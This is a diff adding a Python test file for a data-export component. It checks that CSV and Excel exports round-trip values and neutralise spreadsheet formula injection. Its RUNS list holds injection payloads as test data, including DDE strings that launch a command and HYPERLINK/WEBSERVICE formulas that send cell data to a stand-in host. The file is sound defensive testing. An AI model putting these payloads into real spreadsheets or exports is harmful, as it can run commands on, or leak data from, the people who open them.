@@ -1,0 +1,176 @@
+"""What is taken away comes back: the same values from CSV and workbook, numbers as numbers, and no text ever runs."""
+
+import io
+import zipfile
+from datetime import datetime
+from math import isclose
+from typing import Any
+
+import openpyxl
+import pandas as pd
+import pytest
+
+from components import page, tables
+from components.picture import Picture
+from components.selection import Selection
+from components.tabs import CHARTS
+from components.text import say
+from components.workbook import workbook
+from data import Data
+from data.records import PackSource, words
+
+RUNS = (
+    "=1+1",
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    " =1+1",
+    '=HYPERLINK("https://elsewhere.example?x="&A1,"look")',
+    '=WEBSERVICE("https://elsewhere.example")',
+    "＝1+1",
+    "@ＳＵＭ(1)",
+    "fine;=1+1",
+    'fine"\n=1+1',
+    "=1+1\x00",
+)
+PLAIN = (
+    "https://example.org/a?b=c",
+    "a = b",
+    "2020-2027",
+    "{=1+1}",
+    "Nord-Est; Sud",
+    "007",
+    "1e5",
+    "TRUE",
+    "Ä, ö",
+    'a "b"',
+)
+STARTS = "=+-@＝＋－＠\t\r\n"
+
+
+def pictures(data: Data, name: str) -> list[tuple[Picture, Selection]]:
+    chosen = Selection(tab=name.partition(".")[0])
+    wanted = [chosen, chosen.but(lang="it", region="ES51")]
+    return [(page.picture_of(name, data, one), one) for one in wanted]
+
+
+def sheets(picture: Picture, chosen: Selection) -> openpyxl.Workbook:
+    return openpyxl.load_workbook(io.BytesIO(workbook(picture, "Which?", chosen)))
+
+
+def plain(value: Any) -> Any:
+    """A cell as the CSV writes it: days as text, nothing as an empty text, numbers as they are."""
+    if value is None or value is pd.NA or value != value:
+        return ""
+    return value.date().isoformat() if isinstance(value, datetime) else value
+
+
+def same(given: list[Any], wanted: list[Any]) -> bool:
+    """Whether two columns hold the same values, numbers to the 15 digits that a spreadsheet keeps."""
+    pairs = [(plain(one), plain(other)) for one, other in zip(given, wanted, strict=True)]
+    return all(
+        isclose(one, other, rel_tol=1e-14) if isinstance(other, float) and one != "" else one == other
+        for one, other in pairs
+    )
+
+
+@pytest.mark.parametrize("name", CHARTS)
+def test_a_workbook_gives_back_the_rows_and_says_what_they_are(data: Data, name: str) -> None:
+    for picture, chosen in pictures(data, name):
+        first, about = sheets(picture, chosen)
+        head, *body = first.iter_rows(values_only=True)
+        assert list(head) == [*picture.rows, "publisher", "licence"]
+        wanted = tables.attributed(picture)
+        for column, given in zip(wanted, zip(*body, strict=True), strict=bool(body)):
+            assert same(list(given), wanted[column].tolist()), (name, column)
+        told = [value for _, value in about.iter_rows(values_only=True)]
+        assert picture.summary in told or not picture.summary
+        assert all(note in told for note in picture.notes)
+        for source in picture.sources:
+            assert any(source.title[chosen.lang] in str(one) for one in told)
+        assert [first.title, about.title] == [
+            say(f"workbook.{one}", chosen.lang) for one in ("rows", "about")
+        ]
+
+
+@pytest.mark.parametrize("name", CHARTS)
+def test_a_csv_gives_back_the_rows(data: Data, name: str) -> None:
+    for picture, _ in pictures(data, name):
+        wanted = tables.attributed(picture)
+        numeric = [one for one in wanted if pd.api.types.is_numeric_dtype(wanted[one])]
+        kinds = {one: str if one not in numeric else wanted[one].dtype for one in wanted}
+        read = pd.read_csv(
+            io.StringIO(tables.csv(picture)),
+            dtype=kinds,
+            keep_default_na=False,
+            na_values={one: [""] for one in numeric},
+        )
+        assert list(read) == list(wanted)
+        for column in wanted:
+            assert same(read[column].tolist(), list(map(tables.inert, wanted[column].tolist()))), (
+                name,
+                column,
+            )
+
+
+def hostile() -> Picture:
+    """A picture whose every word is a try."""
+    texts = [*RUNS, *PLAIN]
+    rows = pd.DataFrame(
+        {"label": texts, "value": [-1.5] * len(texts), "=1+1": texts, "standing": "published"}
+    )
+    source = PackSource(publisher="=1+1", title=words("@SUM(1)", "@SUM(1)"), licence="+1")
+    return Picture({}, rows, (source,), summary="=1+1", notes=("-1+1",))
+
+
+def test_no_cell_of_a_workbook_is_a_formula_or_a_link_and_no_text_is_changed() -> None:
+    picture = hostile()
+    held = workbook(picture, "=1+1?", Selection())
+    with zipfile.ZipFile(io.BytesIO(held)) as parts:
+        cells = "".join(parts.read(one).decode() for one in parts.namelist() if "worksheets/" in one)
+    assert "<f" not in cells
+    assert "<hyperlink" not in cells
+    first, about = sheets(picture, Selection())
+    column = [cell for (cell,) in first.iter_rows(min_row=2, max_col=1)]
+    wanted = [one.replace("\x00", "_x0000_") for one in picture.rows["label"]]
+    assert [
+        openpyxl.utils.escape.unescape(str(one.value)).replace("\x00", "_x0000_").replace("\r", "\n")
+        for one in column
+    ] == [one.replace("\r", "\n") for one in wanted]
+    assert all(cell.quotePrefix for cell in column if str(cell.value).startswith(tuple(STARTS)))
+    assert {
+        cell.data_type
+        for sheet in (first, about)
+        for row in sheet.iter_rows()
+        for cell in row
+        if cell.value is not None
+    } <= {"s", "n"}
+    assert [cell.value for (cell,) in first.iter_rows(min_row=2, min_col=2, max_col=2)] == [-1.5] * len(
+        picture.rows
+    )
+
+
+def cells_seen(text: str) -> list[str]:
+    """What a spreadsheet of any language may take for the cells of a text: parted at line ends, semicolons and tabs."""
+    parts = [text]
+    for mark in (";", "\t", "\r", "\n"):
+        parts = [piece for part in parts for piece in part.split(mark)]
+    return parts
+
+
+def test_no_text_of_a_csv_runs_in_a_spreadsheet_of_any_language() -> None:
+    read = pd.read_csv(io.StringIO(tables.csv(hostile())), dtype=str, keep_default_na=False)
+    assert set(read["value"]) == {"-1.5"}
+    texts = [*read.columns, *(one for column in read if column != "value" for one in read[column])]
+    for text in texts:
+        assert not text.startswith(tuple(STARTS)), text
+        assert not any(piece.strip().startswith(tuple("=+@＝＋＠")) for piece in cells_seen(text)), text
+
+
+@pytest.mark.parametrize("text", PLAIN)
+def test_harmless_text_stays_as_it_is(text: str) -> None:
+    assert tables.inert(text) == text
